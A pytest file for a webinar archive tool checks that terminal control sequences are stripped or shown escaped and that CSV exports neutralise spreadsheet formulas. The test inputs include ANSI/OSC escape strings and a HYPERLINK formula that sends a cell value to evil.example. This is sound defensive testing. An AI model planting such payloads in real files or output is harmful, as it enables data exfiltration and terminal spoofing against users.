"""Hostile text: control characters never stored, never printed raw; CSV cells never formulas."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest

from webinar_archive.cli import run
from webinar_archive.domain import model as m
from webinar_archive.domain.text import (
    clean_line,
    clean_text,
    fold,
    from_spreadsheet_cell,
    spreadsheet_cell,
    terminal_text,
)
from webinar_archive.services.archive import Archive

ESC_TITLE = "Evil\x1b]0;owned\x07 \x1b[31mred\u009b2J"


def test_clean_line_drops_controls_and_folds_breaks_to_spaces() -> None:
    """C0, DEL and C1 controls go; tabs and line breaks of a one-line field become spaces."""
    assert clean_line("a\x1b[31mb\x7fc\x9bd\te\r\nf\x85g") == "a[31mbcd e  f g"
    assert clean_line("bad \udc9b byte") == "bad \ufffd byte"
    assert clean_line("Łódź \u202bעברית\u202c \u200f") == "Łódź \u202bעברית\u202c \u200f"


def test_clean_text_keeps_newlines_and_tabs() -> None:
    """A multi-line field keeps \\n and \\t; CR, VT, FF and NEL become \\n; the rest goes."""
    assert clean_text("one\r\n\ttwo\x1b[2J\rthree\x0cfour\x00") == "one\n\ttwo[2J\nthree\nfour"


def test_fold_agrees_with_cleaned_text() -> None:
    """A name typed with controls matches the same name stored without them."""
    raw = "Anna\x1b Smith\x1c\nJr"
    assert fold(raw) == fold(clean_line(raw)) == "anna smith jr"


def test_terminal_text_shows_controls_and_bidi_overrides_as_escapes() -> None:
    """Escapes, C1, explicit bidi overrides and line breaks print as inert text."""
    assert terminal_text("x\x1b]0;t\x07\u009b\u202eevil\nnext") == (
        "x\\x1b]0;t\\x07\\x9b\\u202eevil\\x0anext"
    )
    assert terminal_text("a\nb\tc", multiline=True) == "a\nb\tc"
    # Implicit direction marks are needed by Arabic and Hebrew text and cannot reorder a line.
    assert terminal_text("שלום\u200f (x)") == "שלום\u200f (x)"


def test_stored_text_has_no_controls(archive: Archive) -> None:
    """Titles, names, tags, summaries, notes and people edits are cleaned on the way in."""
    session = archive.sessions.create(
        m.SessionDraft(
            title=ESC_TITLE,
            series="Series\x1b[1m",
            summary="Line 1\r\n\tLine 2\x1b[2J",
            notes="note\x07",
            speakers=[m.SpeakerDraft("Bob\x1b[1m Jones", "Org\x9b")],
            links=[m.LinkDraft(m.LinkKind.OTHER, "https://example.org/\x1b", "la\nbel")],
            tags=["tag\x1bx"],
        )
    )
    assert session.title == "Evil]0;owned [31mred2J"
    assert session.series == "Series[1m"
    assert session.summary == "Line 1\n\tLine 2[2J"
    assert session.notes == "note"
    assert session.appearances[0].person_name == "Bob[1m Jones"
    assert session.appearances[0].organisation_name == "Org"
    assert (session.links[0].url, session.links[0].label) == ("https://example.org/", "la bel")
    assert session.tags == ("tagx",)
    person = archive.people.update_person(
        session.appearances[0].person_id, "Robert\x1b[0m Jones", ["Bobby\x07"], "n\x1bb\n"
    )
    assert (person.display_name, person.aliases, person.notes) == (
        "Robert[0m Jones",
        ("Bobby",),
        "nb\n",
    )


@pytest.fixture()
def old_library(tmp_path: Path) -> Path:
    """A library whose catalogue holds raw escapes, as written before text was cleaned."""
    library = tmp_path / "lib"
    with Archive.open(library) as archive:
        session = archive.sessions.create(
            m.SessionDraft(title="placeholder", speakers=[m.SpeakerDraft("Anna Smith")])
        )
    with sqlite3.connect(library / "catalogue.sqlite") as db:
        db.execute(
            "UPDATE session SET title = ?, summary = ? WHERE id = ?",
            (ESC_TITLE + "\nforged row", "ok\n\x1b[2Jcleared", session.id),
        )
        db.execute("UPDATE person SET display_name = ?", ("Anna\x1b]8;;http://x\x07Smith",))
    db.close()
    return library


@pytest.mark.parametrize("command", [["list"], ["show", "1"], ["people"], ["search", "anna"]])
def test_human_output_of_an_old_catalogue_is_terminal_safe(
    old_library: Path, command: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """No escape character, C1 control or forged line reaches the terminal."""
    assert run(["--library", str(old_library), *command]) == 0
    out = capsys.readouterr().out
    assert out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert "\nforged row" not in out


def test_import_preview_is_terminal_safe(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A page heading with an encoded escape is previewed with the escape shown, not sent."""
    page = tmp_path / "page.html"
    page.write_text(
        "<html><body><h1>Webinar: heading &#27;]0;owned&#7; &#27;[31mred</h1>"
        "<p>Date: 11 September 2020</p><p>Speakers: Anna Smith (Acme)</p></body></html>",
        encoding="utf-8",
    )
    code = run(["--library", str(tmp_path / "lib"), "import", "page", str(page), "--dry-run"])
    out = capsys.readouterr().out
    assert code == 0
    assert "heading" in out and "\\x1b[31mred" in out
    assert "\x1b" not in out and "\x07" not in out


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'plain", ""],
)
def test_spreadsheet_cell_round_trips(text: str) -> None:
    """Formula starts get an apostrophe, and reading the cell back gives the text exactly."""
    cell = spreadsheet_cell(text)
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert from_spreadsheet_cell(cell) == text


def test_csv_export_writes_no_formula_and_import_restores_the_text(
    archive: Archive, tmp_path: Path
) -> None:
    """Cells starting with = + - @ are escaped in the file and come back unchanged."""
    archive.sessions.create(
        m.SessionDraft(
            title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
            series="+Series",
            speakers=[m.SpeakerDraft("-Minus Person", "Org")],
            tags=["@tag"],
        )
    )
    target = tmp_path / "out.csv"
    archive.exchange.export_csv(target)
    rows = list(csv.DictReader(target.read_text(encoding="utf-8-sig").splitlines()))
    cells = [value for row in rows for value in row.values()]
    assert all(not value.startswith(("=", "+", "-", "@")) for value in cells)
    assert rows[0]["title"].startswith("'=HYPERLINK")
    with Archive.open(tmp_path / "other") as other:
        report = other.exchange.import_csv(target)
        assert len(report.created) == 1
        back = other.sessions.get(report.created[0])
    assert back.title == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert back.series == "+Series"
    assert back.appearances[0].person_name == "-Minus Person"
    assert back.tags == ("@tag",)
